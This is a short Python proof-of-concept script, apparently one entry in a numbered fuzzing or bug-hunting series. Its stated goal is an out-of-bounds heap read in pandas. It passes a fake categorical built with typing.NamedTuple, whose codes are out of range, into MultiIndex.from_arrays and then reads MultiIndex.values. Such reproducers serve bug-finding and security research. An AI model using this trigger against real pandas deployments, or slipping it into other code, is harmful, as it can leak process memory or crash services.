# source: same as 010: pandas factorize_from_iterable + MultiIndex.from_arrays(verify_integrity=False) + take_nd; typing.NamedTuple functional form
# family: duck-typed categorical via typing.NamedTuple("...", [("dtype", object), ...]) field names in strings
# goal: out-of-bounds heap read through MultiIndex.values
import typing
import numpy as np
import pandas as pd

Fake = typing.NamedTuple("Fake", [("dtype", object), ("categories", object), ("codes", object), ("ordered", bool)])
kind = pd.CategoricalDtype([0.5, 1.5])
codes = np.array([0, 1, 100, -100], dtype=np.int8)

mi = pd.MultiIndex.from_arrays([Fake(kind, kind.categories, codes, False), np.arange(4)])
print(mi.values)
